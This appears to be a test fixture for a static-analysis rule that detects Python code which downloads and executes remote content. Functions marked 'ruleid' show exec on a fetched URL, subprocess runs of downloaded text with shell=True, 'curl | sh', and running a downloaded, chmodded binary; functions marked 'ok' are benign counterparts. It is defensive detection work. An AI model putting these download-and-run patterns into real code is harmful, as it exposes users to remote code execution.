import os
import subprocess
import urllib.request
from urllib.request import urlopen, urlretrieve

import requests
from setuptools import setup


def bootstrap():
    # ruleid: python-download-executed
    exec(urlopen("https://tools.example.org/boot.py").read())


def agent(url):
    script = requests.get(url, timeout=9).text
    # ruleid: python-download-executed
    subprocess.run(script, shell=True, check=True)


def installer():
    urllib.request.urlretrieve("https://tools.example.org/i.sh", "/tmp/i.sh")
    # ruleid: python-download-executed
    os.system("sh " + "/tmp/i.sh")


def tool():
    # ruleid: python-download-executed
    os.system("curl -s https://tools.example.org/t | sh")


def fetch(url):
    text = requests.get(url, timeout=9).text
    # ok: python-download-executed
    return len(text)


def local():
    with open("boot.py") as f:
        text = f.read()
    # ok: python-download-executed
    exec(text)


def status(url):
    # ok: python-download-executed
    subprocess.run(["systemctl", "status", "radio"], check=False)
    urlretrieve(url, "image.bin")
    # ok: python-download-executed
    os.system("sync")


def saved(url, place):
    answer = requests.get(url, timeout=9)
    with open(place, "wb") as f:
        f.write(answer.content)
    os.chmod(place, 0o755)
    # ruleid: python-download-executed
    subprocess.call([place, "--quiet"])


class Loader:
    def __init__(self, session):
        self.session = session
        self.text = None

    def pull(self, url):
        self.text = self.session.get(url).text

    def run(self):
        # ruleid: python-download-executed
        exec(self.text, {})


def saved_only(url, place):
    answer = requests.get(url, timeout=9)
    with open(place, "wb") as f:
        f.write(answer.content)
    # ok: python-download-executed
    subprocess.call(["sync"])
